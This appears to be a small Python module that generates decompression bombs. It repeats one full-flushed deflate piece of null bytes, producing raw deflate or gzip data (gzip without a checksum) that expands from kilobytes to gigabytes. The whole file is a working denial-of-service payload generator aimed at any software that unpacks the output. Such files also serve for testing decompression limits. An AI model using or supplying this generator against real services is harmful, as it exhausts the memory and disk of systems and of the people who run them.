"""Gigabytes of nulls in a few hundred kilobytes, made at once: one deflated piece repeated."""

import zlib

PIECE = 2**20
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
ZLIB = b"\x78\xda"


def deflated(mebibytes: int, start: bytes = b"") -> bytes:
    """A raw deflate stream of `start` and so many MiB of nulls."""
    deflate = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    begun = deflate.compress(start) + deflate.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the coder has forgotten everything: the same piece may follow for ever.
    piece = deflate.compress(bytes(PIECE)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return begun + piece * mebibytes + deflate.flush()


def gzipped(mebibytes: int, start: bytes = b"") -> bytes:
    """Without its checksum: nobody comes so far."""
    return GZIP + deflated(mebibytes, start)
